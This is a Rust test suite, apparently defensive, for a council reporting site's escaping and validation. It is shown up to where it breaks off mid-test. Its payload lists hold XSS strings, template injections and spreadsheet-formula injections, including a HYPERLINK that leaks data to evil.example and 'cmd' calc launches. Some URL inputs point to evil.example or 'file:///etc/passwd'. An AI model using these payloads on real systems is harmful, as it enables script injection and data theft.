//! Hostile text in every field the staff site takes, on both backends: script tags, event
//! handlers, `javascript:` links, SVG and MathML, attribute breakouts, template syntax,
//! spreadsheet formulas, Unicode tricks, control characters and very long strings.
//!
//! Text the rules accept must come out only escaped in every HTML page that shows it (staff
//! pages, and the public pages once the period is published), as defused cells in every CSV
//! download, and exactly as written in every JSON one. Text the rules refuse must be refused
//! with a 400 that names the field, and change nothing.
//!
//! The same for the plan's and the indicators' forms: activities' titles, portfolios and due
//! dates (added, edited, and in an uploaded plan file, whose name is hostile too), indicators'
//! names and frequencies, and the notes and reasons given with indicators' values.

mod common;

use axum::http::StatusCode;
use chrono::NaiveDate;
use common::{Client, World, backends, bexley_action_plan, hidden};
use serde_json::Value;
use std::collections::{BTreeMap, HashMap, HashSet};
use waymark_domain::workflow::Role;
use waymark_store::User;
use waymark_store::plan_edit::MAX_TITLE_CHARS;
use waymark_web::html::escape_html;
use waymark_web::opendata::cell_safe;

/// `text` repeated and cut to exactly `chars` characters.
fn sized(text: &str, chars: usize) -> String {
    text.chars().cycle().take(chars).collect()
}

/// Text every text field of a return accepts (each non-blank, at most 10,000 characters,
/// without control characters other than line breaks and tabs).
fn texts() -> Vec<String> {
    let fixed = [
        // Script tags, in their many spellings.
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(2)</scr</script>ipt>",
        "</textarea><script>alert(3)</script>",
        "</title><script>alert(4)</script>",
        "</script><script>alert(5)</script>",
        "<script\n>alert(6)</script\n>",
        // Event handlers.
        "<img src=x onerror=alert(7)>",
        "<img src=\"x\" onerror=\"alert(8)\">",
        "<body onload=alert(9)>",
        "<details open ontoggle=alert(10)>",
        "<input value=\"x\" onfocus=\"alert(11)\" autofocus>",
        // javascript: and data: links.
        "<a href=\"javascript:alert(12)\">click</a>",
        "javascript:alert(13)",
        "JaVaScRiPt:alert(14)//",
        "<iframe src=\"javascript:alert(15)\"></iframe>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxNik8L3NjcmlwdD4=",
        "<object data=\"data:text/html,<script>alert(17)</script>\">",
        // SVG and MathML.
        "<svg/onload=alert(18)>",
        "<svg><script>alert(19)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(20)\"><text x=\"0\" y=\"20\">x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(21)>",
        "<math href=\"javascript:alert(22)\">CLICK</math>",
        // Breaking out of attributes with quotes and backticks.
        "\" onmouseover=\"alert(23)",
        "' onmouseover='alert(24)",
        "\"><script>alert(25)</script>",
        "'><script>alert(26)</script>",
        "`><img src=x onerror=alert(27)>`",
        "\" autofocus onfocus=alert(28) x=\"",
        "`onmouseover=alert(29)`",
        // Markup that changes the page around it.
        "<style>@import 'http://evil.example/x.css';</style>",
        "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">",
        "<base href=\"http://evil.example/\">",
        "<form action=\"http://evil.example/\"><button>Go</button></form>",
        "<!--<script>alert(34)</script>-->",
        "<![CDATA[<script>alert(35)</script>]]>",
        // Template syntax (this site's and others').
        "{{7*7}}",
        "{{ config.items() }}{{ self }}",
        "{% raw %}{{ secret }}{% endraw %}",
        "{% for x in range(3) %}x{% endfor %}{# comment #}",
        "${7*7} #{7*7} <%= 7*7 %>",
        // Spreadsheet formulas.
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        // Unicode tricks.
        "\u{202e}gpj.exe <b>right-to-left</b>",
        "zero\u{200b}width\u{200d}joiner\u{feff}bom",
        "＜script＞alert(50)＜/script＞",
        "\u{2028}line\u{2029}separators",
        "𝕏 emoji 🎉 and combining e\u{301} and ﷽",
        // Already-escaped and encoded text must not be unescaped on the way.
        "&lt;script&gt;alert(53)&lt;/script&gt;",
        "&#60;script&#62;alert(54)&#60;/script&#62; &amp; &quot;",
        "%3Cscript%3Ealert(55)%3C/script%3E",
        "\\u003cscript\\u003ealert(56)\\u003c/script\\u003e",
        "\"}]}\"; alert(57); //",
        // Line breaks and tabs are ordinary typing.
        "line one\r\nline two\n<b>three</b>\ttab",
    ];
    let mut all: Vec<String> = fixed.iter().map(|t| t.to_string()).collect();
    all.push(sized("<script>alert(60)</script>\"'`", 10_000));
    all.push(sized("é<", 10_000));
    all.push(sized("\"><svg onload=alert(62)>", 5_000));
    all
}

/// Evidence links the rules accept, hostile as they are.
fn links() -> Vec<String> {
    let fixed = [
        "https://example.org/\"><script>alert(101)</script>",
        "https://example.org/'onmouseover='alert(102)'",
        "https://example.org/?q=<svg/onload=alert(103)>",
        "https://example.org/#{{7*7}}{%raw%}",
        "https://example.org/`onfocus=alert(104)`",
        "HTTPS://EXAMPLE.ORG/=HYPERLINK(\"x\")",
        "https://example.org/path?a=1&b=<b>2</b>&amp;",
        "https://example.org:8443/%22%3E%3Cscript%3Ealert(105)%3C%2Fscript%3E",
        "https://[2001:db8::1]/\"onload=\"alert(106)",
        "http://xn--e1afmkfd.example/\u{202e}txt.exe",
        "https://example.org/javascript:alert(107)",
    ];
    let mut all: Vec<String> = fixed.iter().map(|t| t.to_string()).collect();
    all.push(format!(
        "https://example.org/?{}",
        sized("\"<x>", 2_000 - "https://example.org/?".len())
    ));
    all
}

/// Text the rules refuse in a return's texts: control characters and too much of it.
fn refused_texts() -> Vec<String> {
    let mut all: Vec<String> = [
        "nul \u{0} byte <script>alert(401)</script>",
        "bell \u{7}",
        "escape \u{1b}[31m red",
        "backspace \u{8}",
        "vertical \u{b} tab",
        "form \u{c} feed",
        "delete \u{7f}",
        "next line \u{85} (C1)",
        "control sequence \u{9b} (C1)",
    ]
    .iter()
    .map(|t| t.to_string())
    .collect();
    all.push("a".repeat(10_001));
    all.push(sized("<script>alert(402)</script>", 10_001));
    all.push("é".repeat(10_001));
    all
}

/// Evidence lines the rules refuse.
fn refused_links() -> Vec<String> {
    let mut all: Vec<String> = [
        "javascript:alert(201)",
        "JavaScript:alert(202)//https://example.org/",
        "  javascript:alert(203)",
        "data:text/html,<script>alert(204)</script>",
        "vbscript:msgbox(205)",
        "//evil.example/206",
        "https://council.gov.uk@evil.example/207",
        "https://example.org/a b",
        "https://example.org/\u{0}x",
        // (At either end it would be trimmed away as white space: the rest is a good link.)
        "https://example.org/\u{85}x",
        "ftp://example.org/",
        "https://",
        "file:///etc/passwd",
        "\u{202e}https://example.org/",
    ]
    .iter()
    .map(|t| t.to_string())
    .collect();
    all.push(format!("https://example.org/{}", "a".repeat(2_000)));
    all
}

/// Addresses the rules accept, hostile as they are.
fn emails() -> Vec<String> {
    [
        "\"><script>alert(301)</script>@evil.example",
        "'onmouseover='alert(302)'@evil.example",
        "<svg/onload=alert(303)>@evil.example",
        "=hyperlink(\"http://evil.example/?x\",'click')@evil.example",
        "+cmd|'/c_calc'!a0@evil.example",
        "-2+3+cmd@evil.example",
        "{{7*7}}{%raw%}@evil.example",
        "javascript:alert(308)//@evil.example",
        "\u{202e}lmth.exe@evil.example",
        "`onfocus=alert(310)`@evil.example",
        "x@<img/src/onerror=alert(311)>.example",
    ]
    .iter()
    .map(|t| t.to_string())
    .collect()
}

fn refused_emails() -> Vec<String> {
    let mut all: Vec<String> = [
        "\"><script>alert(321)</script>",
        "a b@evil.example",
        "nul\u{0}@evil.example",
        "x@localhost",
        "@sum(1+1)@evil.example",
        "x@y@evil.example",
        "x@.example",
    ]
    .iter()
    .map(|t| t.to_string())
    .collect();
    all.push(format!("{}@evil.example", "a".repeat(243)));
    all
}

/// Whether the text, shown raw, could change a page's markup.
fn dangerous(text: &str) -> bool {
    text.contains(['<', '>', '"'])
}

/// A payload as messages name it.
fn short(text: &str) -> String {
    let head: String = text.chars().take(40).collect();
    if head.len() < text.len() {
        format!("{head:?}… ({} characters)", text.chars().count())
    } else {
        format!("{head:?}")
    }
}

/// A string as it appears inside a JSON string literal.
fn json_inner(text: &str) -> String {
    let quoted = serde_json::to_string(text).unwrap_or_default();
    quoted[1..quoted.len() - 1].to_string()
}

/// Every string anywhere in a JSON document.
fn strings(value: &Value, out: &mut HashSet<String>) {
    match value {
        Value::String(s) => {
            out.insert(s.clone());
        }
        Value::Array(items) => items.iter().for_each(|v| strings(v, out)),
        Value::Object(map) => map.values().for_each(|v| strings(v, out)),
        _ => {}
    }
}

/// What went wrong, all of it, to report at once.
#[derive(Default)]
struct Findings(Vec<String>);

impl Findings {
    fn check(&mut self, ok: bool, what: impl FnOnce() -> String) {
        if !ok {
            self.0.push(what());
        }
    }

    /// The text must not be in the page raw.
    fn not_raw(&mut self, place: &str, html: &str, text: &str) {
        self.check(!dangerous(text) || !html.contains(text), || {
            format!("{place}: {} is in the page unescaped", short(text))
        });
    }

    /// The text must be in the page, escaped, and not raw.
    fn escaped(&mut self, place: &str, html: &str, text: &str) {
        self.not_raw(place, html, text);
        self.check(html.contains(&escape_html(text)), || {
            format!("{place}: {} is not shown (escaped)", short(text))
        });
    }

    /// Parse a CSV download and check no cell would run as a formula.
    fn csv(&mut self, place: &str, body: &str) -> Vec<HashMap<String, String>> {
        let mut reader = csv::ReaderBuilder::new().from_reader(body.as_bytes());
        let header: Vec<String> = match reader.headers() {
            Ok(h) => h.iter().map(str::to_string).collect(),
            Err(e) => {
                self.0.push(format!("{place}: not CSV: {e}"));
                return vec![];
            }
        };
        let mut rows = vec![];
        for record in reader.records() {
            let record = match record {
                Ok(r) => r,
                Err(e) => {
                    self.0.push(format!("{place}: not CSV: {e}"));
                    return rows;
                }
            };
            for cell in record.iter() {
                let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
                    && cell.parse::<f64>().is_err();
                self.check(!formula, || {
                    format!("{place}: a cell would run as a formula: {}", short(cell))
                });
            }
            rows.push(
                header
                    .iter()
                    .cloned()
                    .zip(record.iter().map(str::to_string))
                    .collect(),
            );
        }
        rows
    }

    fn json(&mut self, place: &str, body: &str) -> Value {
        serde_json::from_str(body).unwrap_or_else(|e| {
            self.0.push(format!("{place}: not JSON: {e}"));
            Value::Null
        })
    }

    fn finish(self) {
        assert!(
            self.0.is_empty(),
            "{} problems:\n{}",
            self.0.len(),
            self.0.join("\n")
        );
    }
}

/// A signed-in browser and its forms' token.
struct Browser {
    client: Client,
    csrf: String,
}

impl Browser {
    async fn new(world: &World, email: &str) -> Browser {
        let mut client = world.signed_in(email).await;
        let (_, _, html) = client.get("/staff").await;
        let csrf = hidden(&html, "csrf").expect("token");
        Browser { client, csrf }
    }

    async fn get(&mut self, path: &str) -> (StatusCode, String) {
        let (status, _, body) = self.client.get(path).await;
        (status, body)
    }

    async fn post(&mut self, path: &str, fields: &[(&str, &str)]) -> (StatusCode, String) {
        let mut all = vec![("csrf", self.csrf.as_str())];
        all.extend_from_slice(fields);
        let (status, _, body) = self.client.post_raw(path, &all).await;
        (status, body)
    }

    /// Upload a plan file from the plan page's form.
    async fn upload(&mut self, name: &str, bytes: &[u8]) -> (StatusCode, String) {
        let csrf = self.csrf.clone();
        let (status, _, body) = self
            .client
            .post_multipart(
                "/staff/plan/upload",
                &[("csrf", &csrf)],
                Some((name, bytes)),
            )
            .await;
        (status, body)
    }
}

/// Activities with a reference no other activity shares, for their public pages.
async fn activities(world: &World, count: usize) -> Vec<(i64, String)> {
    let all = world
        .store()
        .activities(&world.org, None)
        .await
        .expect("activities");
    let mut uses: HashMap<String, usize> = HashMap::new();
    for a in &all {
        if let Some(r) = &a.reference {
            *uses.entry(r.clone()).or_default() += 1;
        }
    }
    let chosen: Vec<(i64, String)> = all
        .iter()
        .filter(|a| a.in_plan)
        .filter_map(|a| Some((a.id, a.reference.clone()?)))
        .filter(|(_, r)| uses.get(r) == Some(&1))
        .take(count)
        .collect();
    assert_eq!(chosen.len(), count, "enough activities");
    chosen
}

async fn open_period(world: &World, admin: &User) -> i64 {
    world
        .store()
        .open_cycle(
            &world.org,
            "2025/26 Q1".parse().expect("period"),
            NaiveDate::from_ymd_opt(2025, 7, 31).expect("date"),
            admin,
            world.clock.now(),
        )
        .await
        .expect("open")
        .id
}

async fn assign(world: &World, cycle: i64, activity: i64, owner: &User, admin: &User) {
    world
        .store()
        .assign_owner(
            &world.org,
            cycle,
            activity,
            Some(owner.id),
            admin,
            world.clock.now(),
        )
        .await
        .expect("assign");
}

/// Every page of the audit trail, newest first, as one text.
async fn audit_pages(admin: &mut Browser) -> String {
    let mut all = String::new();
    let mut next = Some("/staff/audit".to_string());
    while let Some(path) = next {
        let (status, html) = admin.get(&path).await;
        assert_eq!(status, StatusCode::OK, "{path}");
        next = html
            .split("href=\"/staff/audit?before=")
            .nth(1)
            .and_then(|rest| rest.split('"').next())
            .map(|seq| format!("/staff/audit?before={seq}"));
        all.push_str(&html);
    }
    all
}

/// A form that must be refused: where it goes, what it says, the field the error must name
/// and the text that must be shown back escaped (empty: none is shown back).
struct Case {
    path: String,
    fields: Vec<(&'static str, String)>,
    field: &'static str,
    typed: String,
}

fn case(
    path: impl Into<String>,
    fields: Vec<(&'static str, String)>,
    field: &'static str,
    typed: impl Into<String>,
) -> Case {
    Case {
        path: path.into(),
        fields,
        field,
        typed: typed.into(),
    }
}

#[tokio::test]
async fn hostile_returns_are_shown_escaped_on_staff_and_public_pages_and_exports() {
    let mut found = Findings::default();
    let texts = texts();
    let links = links();
    assert!(texts.len() >= 50, "{} payloads", texts.len());
    assert!(texts.iter().all(|t| !t.trim().is_empty()));
    let comments: Vec<&String> = texts
        .iter()
        .filter(|t| t.trim().chars().count() <= waymark_store::cycle::MAX_COMMENT_CHARS)
        .collect();
    let n = texts.len();
    for backend in backends() {
        let world = World::new(backend).await;
        let admin = world.person("perf@bexley.example", Role::Admin, None).await;
        let owner = world
            .person("owner@bexley.example", Role::Owner, None)
            .await;
        world
            .person("councillor@bexley.example", Role::Reader, None)
            .await;
        let mut admin_b = Browser::new(&world, "perf@bexley.example").await;
        let mut owner_b = Browser::new(&world, "owner@bexley.example").await;
        let mut reader_b = Browser::new(&world, "councillor@bexley.example").await;
        let cycle = open_period(&world, &admin).await;
        let chosen = activities(&world, n).await;
        for (id, _) in &chosen {
            assign(&world, cycle, *id, &owner, &admin).await;
        }

        // Each return carries three payloads in its texts, two links and a reviewer's
        // comment; across the returns every payload is in every field.
        let mut placed: Vec<(String, [&str; 6])> = vec![];
        for (i, (id, reference)) in chosen.iter().enumerate() {
            let path = format!("/staff/periods/{cycle}/activities/{id}");
            let place = format!("{backend:?} return for {reference}");
            let commentary = texts[i].as_str();
            let corrective = texts[(i + 1) % n].as_str();
            let reason = texts[(i + 2) % n].as_str();
            let first = links[i % links.len()].as_str();
            let second = links[(i + 1) % links.len()].as_str();
            let evidence = format!("{first}\n{second}");
            let comment = comments[i % comments.len()].as_str();
            for (action, revision) in [("save", "0"), ("submit", "1")] {
                let (status, html) = owner_b
                    .post(
                        &path,
                        &[
                            ("action", action),
                            ("revision", revision),
                            ("status", "amber"),
                            ("commentary", commentary),
                            ("corrective_action", corrective),
                            ("reason", reason),
                            ("evidence", &evidence),
                        ],
                    )
                    .await;
                found.check(status == StatusCode::SEE_OTHER, || {
                    format!("{place}: {action} got {status}: {}", short(&html))
                });
            }
            let (_, html) = owner_b.get(&path).await;
            for text in [commentary, corrective, reason, first, second] {
                found.escaped(&format!("{place}, owner's page"), &html, text);
            }
            let (status, html) = admin_b
                .post(
                    &path,
                    &[
                        ("action", "approve"),
                        ("revision", "2"),
                        ("comment", comment),
                    ],
                )
                .await;
            found.check(status == StatusCode::SEE_OTHER, || {
                format!("{place}: approving got {status}: {}", short(&html))
            });
            let (_, html) = admin_b.get(&path).await;
            for text in [
                commentary,
                corrective,
                reason,
                first,
                second,
                comment.trim(),
            ] {
                found.escaped(&format!("{place}, admin's page"), &html, text);
            }
            let (status, html) = reader_b.get(&path).await;
            found.check(status == StatusCode::OK, || {
                format!("{place}: the reader got {status}")
            });
            found.escaped(&format!("{place}, reader's page"), &html, commentary);
            placed.push((
                reference.clone(),
                [commentary, corrective, reason, first, second, comment],
            ));
        }

        // Pages that list returns show none of their text, and nothing raw.
        let period_page = format!("/staff/periods/{cycle}");
        for (who, path) in [
            ("owner", "/staff"),
            ("reader", "/staff"),
            ("admin", "/staff"),
            ("owner", period_page.as_str()),
            ("reader", period_page.as_str()),
            ("admin", period_page.as_str()),
            ("admin", "/staff/periods"),
        ] {
            let browser = match who {
                "owner" => &mut owner_b,
                "reader" => &mut reader_b,
                _ => &mut admin_b,
            };
            let (status, html) = browser.get(path).await;
            let place = format!("{backend:?} {path} for the {who}");
            found.check(status == StatusCode::OK, || format!("{place}: {status}"));
            for text in texts.iter().chain(&links) {
                found.not_raw(&place, &html, text);
            }
        }

        // The audit trail: its pages, and its downloads.
        let trail = audit_pages(&mut admin_b).await;
        let place = format!("{backend:?} audit trail");
        for text in texts.iter().chain(&links) {
            found.not_raw(&place, &trail, text);
            found.check(trail.contains(&escape_html(&json_inner(text))), || {
                format!("{place}: {} is not shown (escaped)", short(text))
            });
        }
        let (status, csv) = admin_b.get("/staff/audit.csv").await;
        found.check(status == StatusCode::OK, || format!("audit.csv: {status}"));
        let rows = found.csv(&format!("{backend:?} audit.csv"), &csv);
        let cells: String = rows
            .iter()
            .flat_map(|r| r.values().cloned())
            .collect::<Vec<_>>()
            .join("\n");
        for text in texts.iter().chain(&links) {
            found.check(cells.contains(&json_inner(text)), || {
                format!("{backend:?} audit.csv: {} is missing", short(text))
            });
        }
        let (status, json) = admin_b.get("/staff/audit.json").await;
        found.check(status == StatusCode::OK, || format!("audit.json: {status}"));
        let mut all = HashSet::new();
        strings(
            &found.json(&format!("{backend:?} audit.json"), &json),
            &mut all,
        );
        for text in texts.iter().chain(&links) {
            found.check(all.contains(text.as_str()), || {
                format!("{backend:?} audit.json: {} is missing", short(text))
            });
        }
        for comment in &comments {
            found.check(all.contains(comment.trim()), || {
                format!(
                    "{backend:?} audit.json: comment {} is missing",
                    short(comment)
                )
            });
        }

        // Lock and publish through the site.
        for action in ["lock", "publish"] {
            let (_, html) = admin_b.get(&format!("/staff/periods/{cycle}")).await;
            let revision = hidden(&html, "revision").expect("period revision");
            let (status, _) = admin_b
                .post(
                    &format!("/staff/periods/{cycle}/state"),
                    &[("action", action), ("revision", &revision)],
                )
                .await;
            assert_eq!(status, StatusCode::SEE_OTHER, "{backend:?} {action}");
        }

        // The public site: each activity's page, its JSON, the period's report, the downloads.
        let mut public = Client::new(world.app.clone());
        for (reference, [commentary, rest @ ..]) in &placed {
            let place = format!("{backend:?} public page of {reference}");
            let (status, _, html) = public.get(&format!("/activities/{reference}")).await;
            found.check(status == StatusCode::OK, || format!("{place}: {status}"));
            found.escaped(&place, &html, commentary);
            for text in rest {
                found.not_raw(&place, &html, text);
            }
            let (status, _, json) = public.get(&format!("/api/v1/activities/{reference}")).await;
            found.check(status == StatusCode::OK, || {
                format!("{place} JSON: {status}")
            });
            let value = found.json(&place, &json);
            let published = value["history"]
                .as_array()
                .into_iter()
                .flatten()
                .any(|h| h["commentary"].as_str() == Some(commentary));
            found.check(published, || {
                format!("{place} JSON: {} is not in its history", short(commentary))
            });
        }
        let (status, _, html) = public.get("/reports/2025-26-q1").await;
        found.check(status == StatusCode::OK, || format!("report: {status}"));
        for text in texts.iter().chain(&links) {
            found.not_raw(&format!("{backend:?} report"), &html, text);
        }
        let wanted: BTreeMap<&str, &str> = placed
            .iter()
            .map(|(reference, fields)| (reference.as_str(), fields[0]))
            .collect();

        let (_, _, csv) = public.get("/data/statuses.csv").await;
        let place = format!("{backend:?} statuses.csv");
        let rows = found.csv(&place, &csv);
        for (reference, commentary) in &wanted {
            let cell = rows
                .iter()
                .find(|r| r["period"] == "2025-26-q1" && r["reference"] == *reference)
                .map(|r| r["commentary"].clone());
            found.check(
                cell.as_deref() == Some(cell_safe(commentary).as_str()),
                || {
                    format!(
                        "{place}: {reference} has {cell:?}, not {}",
                        short(commentary)
                    )
                },
            );
        }
        let (_, _, csv) = public.get("/data/activities.csv").await;
        found.csv(&format!("{backend:?} activities.csv"), &csv);

        let (_, _, json) = public.get("/data/statuses.json").await;
        let place = format!("{backend:?} statuses.json");
        let value = found.json(&place, &json);
        for (reference, commentary) in &wanted {
            let ok = value["statuses"].as_array().into_iter().flatten().any(|s| {
                s["period"] == "2025-26-q1"
                    && s["reference"] == *reference
                    && s["commentary"].as_str() == Some(commentary)
            });
            found.check(ok, || {
                format!("{place}: {reference} lacks {}", short(commentary))
            });
        }
        let (_, _, json) = public.get("/api/v1/activities?period=2025-26-q1").await;
        let place = format!("{backend:?} /api/v1/activities");
        let value = found.json(&place, &json);
        for (reference, commentary) in &wanted {
            let ok = value["activities"]
                .as_array()
                .into_iter()
                .flatten()
                .any(|a| {
                    a["reference"] == *reference && a["commentary"].as_str() == Some(commentary)
                });
            found.check(ok, || {
                format!("{place}: {reference} lacks {}", short(commentary))
            });
        }
        let check = world.store().verify_audit().await.expect("verify");
        assert!(
            check.problems.is_empty(),
            "{backend:?}: {:?}",
            check.problems
        );
    }
    found.finish();
}

#[tokio::test]
async fn hostile_returns_the_rules_refuse_change_nothing() {
    let mut found = Findings::default();
    for backend in backends() {
        let world = World::new(backend).await;
        let admin = world.person("perf@bexley.example", Role::Admin, None).await;
        let owner = world
            .person("owner@bexley.example", Role::Owner, None)
            .await;
        let mut admin_b = Browser::new(&world, "perf@bexley.example").await;
        let mut owner_b = Browser::new(&world, "owner@bexley.example").await;
        let cycle = open_period(&world, &admin).await;
        let chosen = activities(&world, 2).await;
        for (id, _) in &chosen {
            assign(&world, cycle, *id, &owner, &admin).await;
        }
        let path = format!("/staff/periods/{cycle}/activities/{}", chosen[0].0);
        let good = [
            ("status", "red"),
            ("commentary", "Behind, and why."),
            ("corrective_action", "Extra staff from May."),
            ("reason", ""),
            ("evidence", "https://www.bexley.gov.uk/"),
        ];
        // A refused form: 400, naming the field, nothing changed, and what was typed shown
        // back escaped.
        let refused = async |browser: &mut Browser,
                             found: &mut Findings,
                             path: &str,
                             fields: &[(&str, &str)],
                             field: &str,
                             typed: &str| {
            let before = world.store().row_counts().await.expect("counts");
            let (status, html) = browser.post(path, fields).await;
            let place = format!("{backend:?} {path} with {field} {}", short(typed));
            found.check(status == StatusCode::BAD_REQUEST, || {
                format!("{place}: got {status}")
            });
            found.check(html.contains(&format!("href=\"#{field}\"")), || {
                format!("{place}: the error does not name the field")
            });
            found.check(
                world.store().row_counts().await.expect("counts") == before,
                || format!("{place}: something changed"),
            );
            if !typed.is_empty() {
                found.escaped(&place, &html, typed);
            }
        };

        // Return texts, saved or submitted.
        for text in refused_texts() {
            for field in ["commentary", "corrective_action", "reason"] {
                for action in ["save", "submit"] {
                    let mut fields = vec![("action", action), ("revision", "0")];
                    fields.extend(good.iter().map(|&(k, v)| {
                        if k == field {
                            (k, text.as_str())
                        } else {
                            (k, v)
                        }
                    }));
                    refused(&mut owner_b, &mut found, &path, &fields, field, &text).await;
                }
            }
        }
        // Evidence lines.
        let mut lines: Vec<String> = refused_links()
            .into_iter()
            .map(|bad| format!("https://www.bexley.gov.uk/\n{bad}"))
            .collect();
        lines.push(["https://www.bexley.gov.uk/"; 11].join("\n"));
        for evidence in &lines {
            let mut fields = vec![("action", "save"), ("revision", "0")];
            fields.extend(good.iter().map(|&(k, v)| {
                if k == "evidence" {
                    (k, evidence.as_str())
                } else {
                    (k, v)
                }
            }));
            refused(
                &mut owner_b,
                &mut found,
                &path,
                &fields,
                "evidence",
                evidence,
            )
            .await;
        }
        // Statuses that are not among the choices.
        for status in ["\"><script>alert(501)</script>", "no_return", "GREEN", ""] {
            let mut fields = vec![("action", "submit"), ("revision", "0")];
            fields.extend(
                good.iter()
                    .map(|&(k, v)| if k == "status" { (k, status) } else { (k, v) }),
            );
            refused(&mut owner_b, &mut found, &path, &fields, "status", "").await;
        }

        // Reviewers' comments: submit a good return, then review it badly.
        let mut fields = vec![("action", "submit"), ("revision", "0")];
        fields.extend_from_slice(&good);
        let (status, _) = owner_b.post(&path, &fields).await;
        assert_eq!(status, StatusCode::SEE_OTHER, "{backend:?}: {:?}", found.0);
        let mut comments = refused_texts();
        comments.truncate(9);
        comments.push("x".repeat(5_001));
        comments.push(sized("<b>\"", 5_100));
        for comment in &comments {
            for action in ["approve", "send_back"] {
                let fields = [
                    ("action", action),
                    ("revision", "1"),
                    ("comment", comment.as_str()),
                ];
                refused(&mut admin_b, &mut found, &path, &fields, "comment", comment).await;
            }
        }
        let fields = [
            ("action", "send_back"),
            ("revision", "1"),
            ("comment", "  \n "),
        ];
        refused(&mut admin_b, &mut found, &path, &fields, "comment", "").await;

        // Fields that are not text at all: refused, changing nothing, never shown raw.
        let owner_path = format!("{path}/owner");
        for hostile in [
            "\"><script>alert(502)</script>",
            "1 OR 1=1",
            "-1",
            "999999",
            "1e3",
        ] {
            let cases: [(&str, Vec<(&str, &str)>); 4] = [
                (
                    &path,
                    vec![
                        ("action", "approve"),
                        ("revision", hostile),
                        ("comment", ""),
                    ],
                ),
                (
                    &path,
                    vec![("action", hostile), ("revision", "1"), ("comment", "")],
                ),
                (&owner_path, vec![("owner", hostile)]),
                (
                    &format!("/staff/periods/{cycle}/state"),
                    vec![("action", hostile), ("revision", "1")],
                ),
            ];
            for (target, fields) in cases {
                let before = world.store().row_counts().await.expect("counts");
                let (status, html) = admin_b.post(target, &fields).await;
                let place = format!("{backend:?} {target} with {}", short(hostile));
                found.check(status.is_client_error(), || {
                    format!("{place}: got {status}")
                });
                found.check(
                    world.store().row_counts().await.expect("counts") == before,
                    || format!("{place}: something changed"),
                );
                found.not_raw(&place, &html, hostile);
            }
        }
    }
    found.finish();
}

#[tokio::test]
async fn hostile_names_addresses_periods_and_sign_ins() {
    let mut found = Findings::default();
    let texts = texts();
    // A name is one line of at most 200 characters.
    let names: Vec<&String> = texts
        .iter()
        .filter(|t| t.trim().chars().count() <= 200 && !t.trim().chars().any(char::is_control))
        .collect();
    assert!(names.len() >= 40, "{} names", names.len());
    let emails = emails();
    for backend in backends() {
        let world = World::new(backend).await;
        let admin = world.person("perf@bexley.example", Role::Admin, None).await;
        let mut admin_b = Browser::new(&world, "perf@bexley.example").await;
        let cycle = open_period(&world, &admin).await;
        let store = world.store();

        // Names: added, then changed to the next one, shown escaped wherever they appear.
        let mut people: Vec<(User, &str)> = vec![];
        for (k, name) in names.iter().enumerate() {
            let email = format!("person{k}@bexley.example");
            let (status, html) = admin_b
                .post(
                    "/staff/people",
                    &[
                        ("email", &email),
                        ("name", name),
                        ("role", "owner"),
                        ("directorate", ""),
                    ],
                )
                .await;
            let place = format!("{backend:?} adding {}", short(name));
            found.check(status == StatusCode::OK, || {
                format!("{place}: got {status}")
            });
            found.escaped(&place, &html, name.trim());
            let user = store
                .user_by_email(&email)
                .await
                .expect("user")
                .expect("added");
            let renamed = names[(k + 1) % names.len()].as_str();
            let (status, html) = admin_b
                .post(
                    &format!("/staff/people/{}", user.id),
                    &[
                        ("action", "change"),
                        ("name", renamed),
                        ("role", "owner"),
                        ("directorate", ""),
                        ("active", "yes"),
                    ],
                )
                .await;
            let place = format!("{backend:?} renaming to {}", short(renamed));
            found.check(status == StatusCode::OK, || {
                format!("{place}: got {status}")
            });
            found.escaped(&place, &html, renamed.trim());
            people.push((user, renamed.trim()));
        }
        // Addresses.
        for (k, email) in emails.iter().enumerate() {
            let name = format!("Address {k}");
            let (status, html) = admin_b
                .post(
                    "/staff/people",
                    &[
                        ("email", email),
                        ("name", &name),
                        ("role", "owner"),
                        ("directorate", ""),
                    ],
                )
                .await;
            let shown = email.trim().to_lowercase();
            let place = format!("{backend:?} adding {}", short(email));
            found.check(status == StatusCode::OK, || {
                format!("{place}: got {status}")
            });
            found.escaped(&place, &html, &shown);
            let user = store
                .user_by_email(email)
                .await
                .expect("user")
                .expect("added");
            let (_, html) = admin_b.get(&format!("/staff/people/{}", user.id)).await;
            found.escaped(&format!("{place}: their page"), &html, &shown);
            people.push((user, ""));
        }
        // Give each an activity, so their names are on the period's pages too.
        let chosen = activities(&world, people.len()).await;
        for ((user, _), (activity, _)) in people.iter().zip(&chosen) {
            assign(&world, cycle, *activity, user, &admin).await;
        }
        let (_, list) = admin_b.get("/staff/people").await;
        let (_, period) = admin_b.get(&format!("/staff/periods/{cycle}")).await;
        let (_, page) = admin_b
            .get(&format!(
                "/staff/periods/{cycle}/activities/{}",
                chosen[0].0
            ))
            .await;
        // The people page and a return's choice of owner show names and addresses; the
        // period's page shows owners' names.
        for (user, name) in &people {
            for (what, html) in [("people", &list), ("return", &page)] {
                let place = format!("{backend:?} {what} page");
                found.escaped(&place, html, &user.email);
                if !name.is_empty() {
                    found.escaped(&place, html, name);
                }
            }
            let place = format!("{backend:?} period page");
            found.not_raw(&place, &period, &user.email);
            if !name.is_empty() {
                found.escaped(&place, &period, name);
            }
        }
        // Failed sign-ins as the addresses that look like formulas: the audit trail's actor.
        let formulas: Vec<&String> = emails
            .iter()
            .filter(|e| e.starts_with(['=', '+', '-', '@']))
            .collect();
        for email in &formulas {
            let mut anyone = Client::new(world.app.clone());
            let (status, _, html) = anyone.sign_in(email, "not the password at all").await;
            let place = format!("{backend:?} signing in as {}", short(email));
            found.check(status == StatusCode::UNAUTHORIZED, || {
                format!("{place}: {status}")
            });
            found.escaped(&place, &html, email);
        }
        let trail = audit_pages(&mut admin_b).await;
        for (user, name) in &people {
            found.escaped(
                &format!("{backend:?} audit trail"),
                &trail,
                &json_inner(&user.email),
            );
            if !name.is_empty() {
                found.escaped(
                    &format!("{backend:?} audit trail"),
                    &trail,
                    &json_inner(name),
                );
            }
        }
